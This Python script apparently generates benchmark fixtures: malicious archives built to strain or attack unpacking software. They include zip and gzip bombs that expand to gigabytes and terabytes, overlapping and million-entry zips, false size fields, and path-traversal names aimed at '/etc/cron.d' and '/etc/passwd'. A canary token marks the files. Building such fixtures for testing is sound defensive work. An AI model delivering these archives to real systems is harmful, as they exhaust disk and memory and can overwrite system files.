"""Writes archives that harm whoever unpacks them, at full size: see benchmarks/scripts/bombs."""

import base64
import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

folder = Path(sys.argv[1])
folder.mkdir(parents=True, exist_ok=True)
PAYLOAD = json.dumps({"u": "trapstreet-bombs", "a": "cm" + "0" * 23}, separators=(",", ":")).encode()
TOKEN = b"pk." + base64.urlsafe_b64encode(PAYLOAD).rstrip(b"=") + b"." + b"B" * 21 + b"A"


def local(name, method, packed, size, crc, flags=0):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0, crc, packed, size, len(name), 0) + name


def central(name, method, packed, size, crc, offset, flags=0):
    return (
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset)
        + name
    )


def end(count, size, offset):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), size, offset, 0)


def write(name, entries):
    """Entries: name, method, packed bytes, said packed size, said size, checksum, flags."""
    with open(folder / name, "wb") as out:
        directory = []
        for entry, method, data, packed, size, crc, flags in entries:
            directory.append(central(entry, method, packed, size, crc, out.tell(), flags))
            out.write(local(entry, method, packed, size, crc, flags) + data)
        start = out.tell()
        for record in directory:
            out.write(record)
        out.write(end(len(directory), out.tell() - start, start))


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def entry(name, data, flags=0):
    packed = deflated(data)
    return (name, 8, packed, len(packed), len(data), zlib.crc32(data), flags)


last = entry(b"behind.txt", TOKEN)

# Ten gigabytes of zeros in ten megabytes: one block, again and again, and an end.
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
zeros = block * 10240 + b"\x03\x00"
write("zeros.zip", [(b"zeros", 8, zeros, len(zeros), 0xFFFFFFFF, 0, 0), last])

# Sixteen in sixteen in sixteen: 4.4 terabytes in all.
level = io.BytesIO()
with zipfile.ZipFile(level, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
    made.writestr("zeros", bytes(64 << 20))
for depth in range(4):
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for i in range(16):
            made.writestr(f"{depth}-{i}.zip", level.getvalue())
    level = outer
(folder / "nested.zip").write_bytes(level.getvalue())

write("entries.zip", [(b"%d" % i, 0, b"", 0, 0, 0, 0) for i in range(1_000_000)] + [last])

# Ten thousand names in the directory for one entry of four megabytes.
data = entry(b"kernel", bytes(4 << 20))
with open(folder / "overlap.zip", "wb") as out:
    out.write(local(data[0], 8, data[3], data[4], data[5]) + data[2])
    out.write(local(last[0], 8, last[3], last[4], last[5]) + last[2])
    start = out.tell()
    for i in range(10_000):
        out.write(central(b"%d" % i, 8, data[3], data[4], data[5], 0))
    out.write(end(10_000, out.tell() - start, start))

wrong = entry(b"wrong.txt", TOKEN.replace(b"B", b"C"))
write("sizes.zip", [wrong[:3] + (7, 1 << 30, 0, 0), last])
write("encrypted.zip", [entry(b"secret.txt", b"x" * 1000, 1), last])
write("names.zip", [entry(b"../../../../etc/cron.d/x", TOKEN), entry(b"/etc/passwd", b"x"), entry(b"..\\..\\x", b"x")])
whole = (folder / "names.zip").read_bytes()
(folder / "truncated.zip").write_bytes(whole[: len(whole) // 2])
packer = zlib.compressobj(9, zlib.DEFLATED, 31)
packer.compress(b"")
(folder / "zeros.gz").write_bytes(b"\x1f\x8b\x08" + bytes(7) + zeros + bytes(8))
